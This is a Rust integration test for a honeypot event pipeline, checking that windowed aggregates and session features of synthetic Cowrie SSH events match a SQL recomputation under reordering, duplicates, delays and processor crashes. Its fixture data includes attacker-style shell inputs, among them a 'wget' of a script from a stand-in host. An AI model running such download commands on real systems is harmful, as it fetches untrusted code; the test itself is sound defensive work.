//! Sliding windows equal a recomputation from the events for any order, repetition and delay, with competing
//! processors and their crashes.

use std::{
    collections::{BTreeMap, VecDeque},
    io::Write,
    process::Command,
    sync::{
        Arc, Mutex,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};

use chrono::DateTime;
use events::{
    Dimension, SensorId, Source,
    features::{CLIENTS, ELEMENTS, HASSH_BUCKETS, VERSION},
};
use processor::{Prepared, Windows, keep};
use servers::testing::Backend;
use store::{Store, StoreArgs, windows::panes::Grain};

use crate::harness::{directory, eventually, psql};

/// 2026-01-26, a Monday: the first of thirteen days, into another month.
const START: i64 = 1_769_385_600;
const DAYS: u64 = 13;

/// SplitMix64.
struct Random(u64);

impl Random {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }

    fn one_of<'a>(&mut self, some: &[&'a str]) -> &'a str {
        some[self.below(some.len() as u64) as usize]
    }
}

type Line = (SensorId, Vec<u8>);

/// Some hundred events over thirteen days, most of them within a few busy hours.
fn lines(random: &mut Random) -> Vec<Line> {
    let busy: Vec<u64> = (0..4).map(|_| random.below(DAYS * 24)).collect();
    let count = 400 + random.below(200);
    let mut lines = Vec::new();
    for n in 0..count {
        let hour =
            if random.below(10) < 6 { busy[random.below(4) as usize] } else { random.below(DAYS * 24) };
        let micros = (START + hour as i64 * 3_600) * 1_000_000 + random.below(3_600_000_000) as i64;
        let time = DateTime::from_timestamp_micros(micros).unwrap().format("%Y-%m-%dT%H:%M:%S%.6fZ");
        let sensor = random.one_of(&["a", "b", "c"]);
        let session = random.below(40);
        let ip =
            random.one_of(&["192.0.2.1", "192.0.2.2", "198.51.100.7", "2001:db8:1::5", "2001:db8:1:2::6"]);
        let user = random.one_of(&["root", "ad:min", r"a\\b", ""]);
        let password = random.one_of(&["123456", "x:y", "\\u0000p", "pässwort"]);
        let more = match random.below(12) {
            0 => r#""eventid":"cowrie.session.connect","protocol":"ssh""#.to_owned(),
            1 => format!(r#""eventid":"cowrie.login.success","username":"{user}","password":"{password}""#),
            2 | 3 => {
                format!(r#""eventid":"cowrie.login.failed","username":"{user}","password":"{password}""#)
            }
            4 | 5 => format!(
                r#""eventid":"cowrie.command.input","input":"{}""#,
                COMMANDS[random.below(4) as usize]
            ),
            6 => format!(r#""eventid":"cowrie.client.kex","hassh":"{}""#, random.one_of(&["h1", "h2"])),
            7 => format!(
                r#""eventid":"cowrie.client.version","version":"{}""#,
                random.one_of(&["b'SSH-2.0-Go'", "SSH-2.0-Go", "SSH-2.0-x"])
            ),
            8 => format!(
                r#""eventid":"cowrie.session.file_download","shasum":"{}""#,
                random.one_of(&["aa", "bb"])
            ),
            9 => format!(
                r#""eventid":"cowrie.direct-tcpip.request","dst_ip":"{}","dst_port":{}"#,
                random.one_of(&["ya.ru", "::1"]),
                80 + random.below(2)
            ),
            10 => r#""eventid":"cowrie.session.closed","duration":1.5"#.to_owned(),
            _ => r#""eventid":"cowrie.log.closed","size":0"#.to_owned(),
        };
        let line =
            format!(r#"{{"timestamp":"{time}","session":"{session:012x}","src_ip":"{ip}","n":{n},{more}}}"#);
        lines.push((sensor.parse().unwrap(), line.into_bytes()));
    }
    lines
}

const COMMANDS: [&str; 4] =
    ["uname -a", "  uname   -a ", "cat /proc/cpuinfo | grep name | wc -l", "wget http://192.0.2.9/x.sh"];

/// The deliveries: mostly in order of time, some up to days late, some repeated; divided into batches.
fn deliveries(random: &mut Random, lines: &[Line]) -> VecDeque<Vec<Line>> {
    let mut order: Vec<(u64, &Line)> = Vec::new();
    for (n, line) in lines.iter().enumerate() {
        for _ in 0..1 + random.below(5).saturating_sub(2) {
            let late = if random.below(5) == 0 { random.below(lines.len() as u64) } else { random.below(8) };
            order.push((n as u64 + late, line));
        }
    }
    order.sort_by_key(|(at, _)| *at);
    let mut batches = VecDeque::new();
    let mut rest = order.as_slice();
    while !rest.is_empty() {
        let (batch, after) = rest.split_at(rest.len().min(1 + random.below(40) as usize));
        batches.push_back(batch.iter().map(|(_, line)| (*line).clone()).collect());
        rest = after;
    }
    batches
}

/// A competing processor: takes batches and commits them. Now and then it dies before the commit is done, or
/// after it and before the batch is acknowledged.
async fn compete(
    url: String,
    batches: Arc<Mutex<VecDeque<Vec<Line>>>>,
    done: Arc<AtomicU64>,
    mut random: Random,
) {
    let source = Source::default();
    let mut store = connect(&url).await;
    loop {
        let Some(batch) = batches.lock().unwrap().pop_front() else { return };
        let prepared: Vec<_> =
            batch.iter().map(|(sensor, line)| Prepared::of_line(sensor, line, None, &source, None)).collect();
        let dies = random.below(6);
        let patience =
            if dies == 0 { Duration::from_micros(random.below(20_000)) } else { Duration::from_secs(60) };
        let kept = tokio::time::timeout(patience, keep(&store, &prepared, Windows::Kept, None)).await;
        let unfinished = match kept {
            Ok(Ok(_)) => dies == 1 && random.below(2) == 0,
            Ok(Err(store::Failure::Retry(_))) => true,
            Err(_) => {
                // Its connections end with it.
                store = connect(&url).await;
                true
            }
            Ok(Err(store::Failure::Reject(error))) => {
                // The partition was dropped after it was looked up.
                assert!(format!("{error:#}").contains("no partition"), "{error:#}");
                store.forget_days();
                true
            }
        };
        if unfinished {
            batches.lock().unwrap().push_back(batch);
        } else {
            done.fetch_add(1, Ordering::Relaxed);
        }
    }
}

async fn connect(url: &str) -> Store {
    Store::connect(&StoreArgs { database_url: Some(url.to_owned()), database_connections: 4 }).await.unwrap()
}

/// Every session that has ended has the features of its events; no other session has features.
async fn features(store: &Store, url: &str, seed: u64) {
    let mut transaction = store.begin_reading().await.unwrap();
    let mut after = store::SessionKey::default();
    while let Some(found) = store::features::differences(&mut transaction, &after).await.unwrap() {
        assert!(found.outdated.is_empty() && found.wrong.is_empty(), "seed {seed}: {found:?}");
        after = found.last;
    }
    // The same check in SQL, which shares no code with Rust.
    let wrong = psql(
        url,
        "select s.sensor, s.session from sessions s full join session_features f using (sensor, session)
        left join lateral (
            select count(*) filter (where eventid = 'cowrie.login.failed') as failed, count(*) filter (where eventid = 'cowrie.session.file_download') as downloads,
                count(distinct payload ->> 'password') as passwords, count(*) filter (where eventid = 'cowrie.command.input') as commands,
                count(*) as events, sum(length) as bytes
            from events e where e.sensor = s.sensor and e.session = s.session
        ) e on true
        where (s.closed or s.idle) is distinct from (f.version is not null) or f.version is not null and (
            abs(feature(f, 'events') - ln(1 + e.events)) > 1e-4 or abs(feature(f, 'bytes') - ln(1 + e.bytes)) > 1e-4
            or abs(feature(f, 'logins_failed') - ln(1 + e.failed)) > 1e-4 or abs(feature(f, 'downloads') - ln(1 + e.downloads)) > 1e-4
            or abs(feature(f, 'passwords') - ln(1 + e.passwords)) > 1e-4 or abs(feature(f, 'commands') - ln(1 + e.commands)) > 1e-4
            or (e.commands > 0) is distinct from exists (select from command_sequences q where q.sequence = f.sequence and q.length = e.commands))",
    );
    assert_eq!(wrong.trim(), "", "seed {seed}");
    let ended =
        psql(url, "select count(*), count(*) filter (where profile is not null) from session_features");
    assert!(ended.trim().split('|').all(|count| count.parse::<u32>().unwrap() > 20), "seed {seed}: {ended}");
}

/// The table of elements agrees with the program.
fn elements(url: &str) {
    let mut expected: Vec<String> =
        ELEMENTS.iter().map(|one| format!("{}|{}|{}", one.name, one.unit, one.scaling.formula())).collect();
    expected.extend(
        CLIENTS.iter().map(|client| format!("client_{client}|1 for the family of the client, else 0|x")),
    );
    expected.extend(
        (0..HASSH_BUCKETS).map(|bucket| format!("hassh_{bucket}|1 for the bucket of the hassh, else 0|x")),
    );
    let stored = psql(
        url,
        &format!(
            "select name, unit, scaling from feature_elements where version = {VERSION} order by position"
        ),
    );
    assert_eq!(stored.lines().collect::<Vec<_>>(), expected);
}

/// Closes idle sessions, as the sweep does.
async fn sweep(store: &Store) {
    loop {
        let mut transaction = store.begin().await.unwrap();
        let ended = store::ingest::sessions::close_idle(&mut transaction).await.unwrap();
        store::features::refresh(&mut transaction, &ended).await.unwrap();
        transaction.commit().await.unwrap();
        if ended.is_empty() {
            return;
        }
    }
}

/// Rolls up everything that is due.
async fn roll_up(store: &Store) {
    let mut connection = store.connection().await.unwrap();
    let visits = store::windows::rollup::due_visits(&mut connection, Duration::ZERO).await.unwrap();
    for visit in visits {
        loop {
            let mut transaction = store.begin().await.unwrap();
            let taken = store::windows::rollup::visit(&mut transaction, visit).await.unwrap();
            if taken == 0 {
                store::windows::rollup::end_visit(&mut transaction, visit).await.unwrap();
            }
            transaction.commit().await.unwrap();
            if taken == 0 {
                break;
            }
        }
    }
}

/// Runs one seed in its own database.
async fn seed(url: String, seed: u64) -> BTreeMap<String, u64> {
    let mut random = Random(seed.wrapping_mul(0x2545_f491_4f6c_dd1d));
    let store = connect(&url).await;
    let lines = lines(&mut random);
    let batches = deliveries(&mut random, &lines);
    let total = batches.len() as u64;
    let (batches, done) = (Arc::new(Mutex::new(batches)), Arc::new(AtomicU64::new(0)));
    let before = DateTime::from_timestamp(START + 7 * 86_400, 0).unwrap();
    let leader = async {
        for part in 1..=4 {
            while done.load(Ordering::Relaxed) < total * part / 5 {
                tokio::time::sleep(Duration::from_millis(1)).await;
            }
            roll_up(&store).await;
            sweep(&store).await;
            // Drops the first week of minutes, and with every second seed January's hours.
            let drops: &[Grain] =
                if seed.is_multiple_of(2) { &[Grain::Minute] } else { &[Grain::Minute, Grain::Hour] };
            for &grain in drops.iter().filter(|_| part == 2) {
                let mut connection = store.connection().await.unwrap();
                while store::windows::rollup::drop_oldest(&mut connection, grain, before)
                    .await
                    .unwrap()
                    .is_some()
                {}
            }
        }
    };
    let competitors =
        (0..3).map(|_| compete(url.clone(), batches.clone(), done.clone(), Random(random.next())));
    futures_of(competitors, leader).await;
    roll_up(&store).await;
    features(&store, &url, seed).await;

    let compared = compare(&url, &COMMANDS.map(str::to_owned), seed);
    typed(&store, &url).await;
    assert!(
        compared.values().all(|&comparisons| comparisons >= 20),
        "seed {seed}: too few comparisons: {compared:?}"
    );
    compared
}

/// A month of hours was dropped. Then a late event opens a week that began in that month, and a processor
/// that does not know of the drop delivers one of that month.
async fn a_week_outlives_its_month(url: &str) {
    let (knows, store) = (connect(url).await, connect(url).await);
    let commit = async |store: &Store, time: &str| {
        let line = format!(
            r#"{{"timestamp":"{time}","session":"{:012x}","src_ip":"192.0.2.1","eventid":"cowrie.session.connect"}}"#,
            time.len()
        );
        let (sensor, source) = ("a".parse().unwrap(), Source::default());
        let prepared = Prepared::of_line(&sensor, line.as_bytes(), None, &source, None);
        keep(store, &[prepared], Windows::Kept, None).await.unwrap();
    };
    for second in 10..30 {
        commit(&knows, &format!("2026-01-30T10:00:{second}Z")).await;
    }
    commit(&store, "2026-02-09T00:00:00Z").await;
    roll_up(&store).await;
    let mut connection = store.connection().await.unwrap();
    let before = DateTime::from_timestamp(START + 7 * 86_400, 0).unwrap();
    for grain in [Grain::Minute, Grain::Hour] {
        while store::windows::rollup::drop_oldest(&mut connection, grain, before).await.unwrap().is_some() {}
    }
    commit(&store, "2026-02-01T10:00:00Z").await;
    for second in 30..50 {
        commit(&knows, &format!("2026-01-30T10:00:{second}Z")).await;
    }
    assert_eq!(psql(url, "select to_regclass('feature_panes_hour_202601') is null").trim(), "t");
    roll_up(&store).await;
    let day = Duration::from_secs(86_400);
    let window = store::windows::features(
        &mut connection,
        Dimension::All,
        "",
        day,
        DateTime::from_timestamp(START + 5 * 86_400, 0).unwrap(),
    )
    .await
    .unwrap();
    assert_eq!(window.events, 40);
}

/// The typed queries give the same as SQL; the steps of a series add up to the whole; the first of a top list
/// is the largest.
async fn typed(store: &Store, url: &str) {
    let mut connection = store.connection().await.unwrap();
    let (end, day) =
        (DateTime::from_timestamp(START + DAYS as i64 * 86_400, 0).unwrap(), Duration::from_secs(86_400));
    let whole = store::windows::features(&mut connection, Dimension::All, "", day * 14, end).await.unwrap();
    assert_eq!(psql(url, "select count(*) from events").trim(), whole.events.to_string());
    let parts =
        store::windows::series(&mut connection, Dimension::All, "", day * 14, day, end).await.unwrap();
    assert_eq!((parts.len(), parts.iter().map(|part| part.events).sum::<i64>()), (14, whole.events));
    for measure in [store::windows::Measure::LoginsFailed, store::windows::Measure::DistinctSessions] {
        let top = store::windows::top(&mut connection, Dimension::Username, measure, day * 14, end, 3)
            .await
            .unwrap();
        let mut all = Vec::new();
        for user in ["root", "ad:min", r"a\b", ""] {
            let window = store::windows::features(&mut connection, Dimension::Username, user, day * 14, end)
                .await
                .unwrap();
            all.push((
                if measure == store::windows::Measure::LoginsFailed {
                    window.logins_failed
                } else {
                    window.distinct_sessions
                },
                user.to_owned(),
            ));
        }
        all.sort_by(|a, b| (b.0, &a.1).cmp(&(a.0, &b.1)));
        all.truncate(3);
        assert_eq!(top.into_iter().map(|(key, value)| (value, key)).collect::<Vec<_>>(), all);
    }
}

/// Compares windows of every dimension with a recomputation in SQL; `commands` are all commands. Returns the
/// number of non-empty comparisons by dimension.
pub fn compare(url: &str, commands: &[String], seed: u64) -> BTreeMap<String, u64> {
    let key = |command: &String| serde_json::json!({ "input": command, "key": events::bounded(&events::normal::normalise(command)) });
    let normal =
        serde_json::Value::from(commands.iter().map(key).collect::<Vec<_>>()).to_string().replace('\'', "''");
    let mut script = tempfile::NamedTempFile::new().unwrap();
    let fill = format!(
        "create temp table normal as select * from json_to_recordset('{normal}') as n (input text, key text)"
    );
    write!(
        script,
        "select setseed({});\n{fill};\n{}",
        (seed % 1_000) as f64 / 1_000.0,
        include_str!("windows.sql")
    )
    .unwrap();
    let out = Command::new("psql")
        .args([url, "-X", "-q", "-A", "-t", "-v", "ON_ERROR_STOP=1", "-f"])
        .arg(script.path())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let mut compared = BTreeMap::new();
    for line in String::from_utf8_lossy(&out.stdout).lines().filter(|line| line.contains('|')) {
        let (dimension, rest) = line.split_once('|').unwrap();
        match rest.parse() {
            Ok(comparisons) => compared.insert(dimension.to_owned(), comparisons),
            Err(_) => panic!("seed {seed}: {line}"),
        };
    }
    assert_eq!(compared.len(), 13, "seed {seed}: {}", String::from_utf8_lossy(&out.stdout));
    compared
}

async fn futures_of(
    competitors: impl Iterator<Item = impl Future<Output = ()> + Send + 'static>,
    leader: impl Future<Output = ()>,
) {
    let running: Vec<_> = competitors.map(|one| tokio::runtime::Handle::current().spawn(one)).collect();
    leader.await;
    for one in running {
        one.await.unwrap();
    }
}

/// The gate runs ten seeds; `WINDOWS_SEEDS=10000` runs more, and `WINDOWS_FIRST=318 WINDOWS_SEEDS=1` only
/// one.
#[tokio::test(flavor = "multi_thread")]
async fn windows_equal_a_recomputation() {
    let seeds: u64 = std::env::var("WINDOWS_SEEDS").map_or(10, |text| text.parse().unwrap());
    let dir = directory();
    let mut postgres = Backend::postgres(&dir.path().join("p")).await;
    let url = postgres.url();
    let database = |name: &str| format!("{}/{name}", url.rsplit_once('/').unwrap().0);
    psql(&url, "alter system set fsync = off");
    psql(&url, "alter system set synchronous_commit = off");
    psql(&url, "select pg_reload_conf()");
    psql(&url, "create database migrated");
    {
        connect(&database("migrated")).await.migrate().await.unwrap();
    }
    elements(&database("migrated"));
    psql(&url, "create database straddling template migrated");
    a_week_outlives_its_month(&database("straddling")).await;
    let first: u64 = std::env::var("WINDOWS_FIRST").map_or(0, |text| text.parse().unwrap());
    let next = AtomicU64::new(first);
    let one = || {
        let runtime =
            tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
        let mut sums = BTreeMap::<String, u64>::new();
        loop {
            let n = next.fetch_add(1, Ordering::Relaxed);
            if n >= first + seeds {
                return sums;
            }
            let name = format!("seed_{n}");
            psql(&url, &format!("create database {name} template migrated strategy file_copy"));
            for (dimension, comparisons) in runtime.block_on(seed(database(&name), n)) {
                *sums.entry(dimension).or_default() += comparisons;
            }
            psql(&url, &format!("drop database {name} with (force)"));
        }
    };
    eventually("nobody uses the template", || {
        psql(&url, "select count(*) from pg_stat_activity where datname = 'migrated'").trim() == "0"
    });
    let sums: Vec<_> = std::thread::scope(|scope| {
        let threads: Vec<_> = (0..AT_ONCE).map(|_| scope.spawn(one)).collect();
        threads.into_iter().map(|thread| thread.join().unwrap()).collect()
    });
    let of = |dimension: &str| sums.iter().filter_map(|sums| sums.get(dimension)).sum::<u64>();
    let comparisons: Vec<_> =
        Dimension::ALL.iter().map(|dimension| (dimension.name(), of(dimension.name()))).collect();
    println!("{seeds} seeds, comparisons that were not of nothing, by dimension: {comparisons:?}");
    postgres.stop().await;
}

/// Concurrent seeds.
const AT_ONCE: usize = 4;
